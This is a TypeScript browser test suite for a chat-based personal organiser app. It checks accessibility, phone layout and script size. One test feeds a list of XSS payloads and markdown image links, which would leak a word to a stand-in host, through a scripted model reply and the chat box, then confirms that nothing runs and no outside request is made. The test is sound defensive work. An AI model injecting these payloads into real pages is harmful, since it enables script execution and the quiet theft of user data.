import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { type ScriptedModel, scriptedGateway, scriptedModel } from '@parco/agent/testing'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { PAGES } from '../../src/pages/index-of-pages.ts'
import { sharedBrowser } from './browser.ts'
import { findViolations } from './find-violations.ts'
import type { RunningParco } from './running-parco.ts'
import { seedLife } from './seed-life.ts'
import { sharedParco } from './shared-parco.ts'
import { type Visit, visit } from './visit.ts'

/** Script that is loaded before anything can be done, packed. */
const MAX_SCRIPT_BYTES = 250 * 1024

/** What scripts hide in, and where pictures carry words away to. */
const HOSTILE = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg/onload="window.hit = 1">',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<a href="javascript:window.hit = 1">a</a>',
  '[a](javascript:window.hit=1)',
  '[a](JaVaScRiPt:window.hit=1)',
  '[a](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)',
  '[a](vbscript:msgbox)',
  '<details open ontoggle="window.hit = 1">',
  '<style>@import "https://elsewhere.example/s.css";</style>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hit = 1">',
  '`<script>window.hit = 1</script>`',
  '<form action="https://elsewhere.example"><button>a</button></form>',
  '<object data="https://elsewhere.example/o"></object>',
  '<link rel="prefetch" href="https://elsewhere.example/p">',
]
const PICTURES = Array.from({ length: 100 }, (_, index) =>
  index % 2 === 0
    ? `![x](https://elsewhere.example/${index}.png?said=segredo)`
    : `![x][p${index}]\n\n[p${index}]: https://elsewhere.example/${index}.png`,
)

/** The parts of pages that have an address. */
const PARTS = [
  '/agenda?view=list',
  '/habits?view=goals',
  '/money?view=plans',
  '/money?view=bills',
  '/money?view=cards',
  '/body?measure=weight',
  '/money?view=debts',
  '/money?view=investments',
]

/** Every page and each of its parts, none beside another of its page: so none has to be loaded anew. */
const PLACES = ['/', ...PAGES.flatMap(({ path }, at) => [path, ...(PARTS[at] ? [PARTS[at]] : [])])]

describe.skipIf(!process.env.PARCO_TEST_BROWSER)('what every page keeps to', () => {
  let parco: RunningParco
  let browser: Browser
  let model: ScriptedModel = scriptedModel([])
  let opened: Visit
  beforeAll(async () => {
    parco = await sharedParco(async () => scriptedGateway(model))
    browser = await sharedBrowser()
    opened = await visit(browser, parco, { timezoneId: 'America/Sao_Paulo' })
  })
  afterAll(async () => {
    expect(opened?.pageErrors).toEqual([])
    await opened?.context.close()
  })

  /** What axe finds on those places, and how much wider than a phone they are. */
  async function look(places: readonly string[]): Promise<string[]> {
    const { page, goTo, turnTo } = opened
    const found: string[] = []
    for (const place of places) {
      await (place === '/' ? goTo(place) : turnTo(place))
      await isRead(page)
      // What cannot be read has nothing else against it.
      for (const failure of await page.getByRole('main').getByRole('alert').allTextContents())
        found.push(`${place}: ${failure}`)
      found.push(...(await findViolations(page)).map((one) => `${place}: ${one}`))
      const size = page.viewportSize()
      await page.setViewportSize({ width: 320, height: 640 })
      const overflow = await overflowOf(page)
      if (overflow > 0) found.push(`${place}: ${overflow} px wider than a phone`)
      if (size) await page.setViewportSize(size)
    }
    return found
  }

  it('has nothing against it while it is empty, in Portuguese', async () => {
    expect(await look(PAGES.map(({ path }) => path))).toEqual([])
  })

  describe('with a life in it', () => {
    beforeAll(async () => {
      await seedLife(opened)
      await opened.goTo('/')
      await opened.say('gastei 33 na mercearia e tomei 500 ml de água')
      await opened.page.getByRole('button', { name: 'Anotar tudo' }).click()
      await opened.page.getByRole('button', { name: /^Desfazer: .*Mercearia/ }).waitFor()
    })

    // Colours come from the same tokens in both languages, so each theme is looked at in one of them.
    it('has nothing against it in the light on a desktop, in Portuguese', async () => {
      expect(await look(PLACES)).toEqual([])
    })

    it('keeps its controls in line on a phone, in Portuguese', async () => {
      const { page, turnTo } = opened
      const size = page.viewportSize()
      await page.setViewportSize({ width: 360, height: 740 })
      /** How far those elements of a page stand below the first of them. */
      const below = (selector: string) =>
        page.locator(selector).evaluateAll((all) => {
          const middle = (one: Element) => {
            const { top, bottom } = one.getBoundingClientRect()
            return (top + bottom) / 2
          }
          return all.map((one) => Math.round(middle(one) - middle(all[0] as Element)))
        })
      await turnTo('/agenda')
      await isRead(page)
      expect((await below('.page__actions .button')).slice(0, 2)).toEqual([0, 0])
      await turnTo('/today')
      await isRead(page)
      expect(await below('.day-picker > *')).toEqual([0, 0])
      await turnTo('/agenda?view=list')
      await isRead(page)
      const [row] = await page.locator('.agenda__words').all()
      const gap = await row?.evaluate((words) => {
        const list = words.closest('.agenda') as Element
        return words.getBoundingClientRect().left - list.getBoundingClientRect().left
      })
      expect(gap).toBeLessThan(20)
      if (size) await page.setViewportSize(size)
    })

    it('has nothing against it in the dark on a phone, in English', async () => {
      const { page } = opened
      await page.request.patch(`${parco.address}/api/user`, { data: { locale: 'en' } })
      await page.emulateMedia({ colorScheme: 'dark', reducedMotion: 'reduce' })
      await page.setViewportSize({ width: 320, height: 640 })
      await opened.goTo('/')
      await page.locator('html[lang="en"]').waitFor({ state: 'attached' })
      expect(await look(PLACES)).toEqual([])
      await page.setViewportSize({ width: 360, height: 740 })
      await opened.turnTo('/body?measure=weight')
      await isRead(page)
      const lines = await page
        .locator('.segments__option')
        .evaluateAll((all) =>
          all.map(
            (one) => one.scrollHeight < 2 * Number.parseFloat(getComputedStyle(one).lineHeight),
          ),
        )
      expect(lines).toEqual([true, true, true, true])
    })
  })

  it('runs no script and asks no other machine, whatever a model or a user writes', async () => {
    const { page, say, requested, composer } = await visit(browser, parco)
    model = scriptedModel([{ text: [...HOSTILE, ...PICTURES, 'Fim da lista.'].join('\n\n') }])
    await say('qual é a capital do Chile?')
    await page.getByText('Fim da lista.').first().waitFor()
    await page.locator('.status').waitFor({ state: 'detached' })
    await composer.fill(HOSTILE.join('\n'))
    await composer.press('Enter')
    await page.locator('.bubble', { hasText: 'onerror' }).waitFor()
    await page.reload()
    await page.getByText('Fim da lista.').first().waitFor()
    expect(await page.evaluate(() => (window as unknown as { hit?: number }).hit)).toBeUndefined()
    expect(await page.locator('.entries img, .entries iframe, .entries script').count()).toBe(0)
    const schemes = await page
      .locator('.entries a')
      .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol))
    expect(schemes.filter((scheme) => !/^https?:$/.test(scheme))).toEqual([])
    expect(requested.filter((url) => !url.startsWith(`${parco.address}/`))).toEqual([])
    await page.context().close()
  })

  it('loads no more script than 250 KB before anything can be done', async () => {
    const { context, page, requested } = await visit(browser, parco)
    await page.waitForLoadState('networkidle')
    const loaded = new Set(requested.map((url) => new URL(url).pathname))
    const folder = join(parco.pageDirectory, 'assets')
    const sizes = readdirSync(folder)
      .filter((name) => name.endsWith('.js') && loaded.has(`/assets/${name}`))
      .map((name) => gzipSync(readFileSync(join(folder, name))).byteLength)
    expect(sizes.length).toBeGreaterThan(3)
    expect(sizes.reduce((sum, size) => sum + size, 0)).toBeLessThan(MAX_SCRIPT_BYTES)
    await context.close()
  })
})

/** Waits until nothing on the page is still on its way, or of what was asked before. */
async function isRead(page: Page): Promise<void> {
  await page.getByRole('main').waitFor()
  await page.locator('.reading, [data-stale="true"], [aria-busy="true"]').first().waitFor({
    state: 'detached',
  })
}

/** By how much the page, or what it scrolls, is wider than the screen. */
const overflowOf = (page: Page): Promise<number> =>
  page.evaluate(() =>
    [document.documentElement, document.querySelector('main')]
      .map((one) => (one ? one.scrollWidth - one.clientWidth : 0))
      .reduce((widest, one) => Math.max(widest, one), 0),
  )
